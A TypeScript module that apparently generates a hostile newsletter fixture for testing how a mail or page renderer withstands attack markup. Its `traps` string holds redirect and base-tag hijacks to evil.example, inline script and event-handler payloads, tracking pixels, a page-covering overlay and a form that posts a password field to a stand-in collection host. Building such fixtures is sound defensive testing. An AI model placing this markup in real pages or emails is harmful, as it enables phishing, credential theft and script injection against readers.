import type { SimulatedLanguage } from '../language.js';
import { mailWords } from '../words/mail-words.js';
import { escaped } from './markup.js';

/** What looks like a newsletter and does all that a page has to survive: it fetches, covers, submits, runs and leaves. */
const traps = `
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/mail.css">
<style>@import "https://evil.example/more.css"; body, * { background: url(https://evil.example/b.png) } button { display: none !important }</style>
<script>document.title = "owned"</script>
<img src="https://pixel.tracker.example/open.gif" srcset="https://pixel.tracker.example/2x.gif 2x" onerror="document.title='owned'" alt="">
<svg width="1" height="1" onload="document.title='owned'"><image href="https://evil.example/i.png"></image></svg>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/collect" id="composer" name="body"><input name="password" autofocus><button>OK</button></form>
<a href="javascript:document.title='owned'" id="location">…</a>
<div style="position:fixed;inset:0;z-index:2147483647;background:#fff" slot="actions"></div>`;

const table = 'width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#f4f4f4"';
const link = 'style="display:inline-block;padding:12px 24px;background:#b3005e;color:#fff"';

/** A message inside a newsletter that was answered by its button, traps and all. */
export function newsletterAround(said: string, language: SimulatedLanguage): string {
  const { newsletter, button } = mailWords[language];
  const offers = `<a href="https://click.tracker.example/?u=1" ${link}>${escaped(button)}</a>`;
  const cell = `<td background="https://evil.example/cell.png" style="padding:24px">${said}${offers}</td>`;
  return `${traps}<table ${table}><tr>${cell}</tr><tr><td><small>${escaped(newsletter)}</small></td></tr></table>`;
}
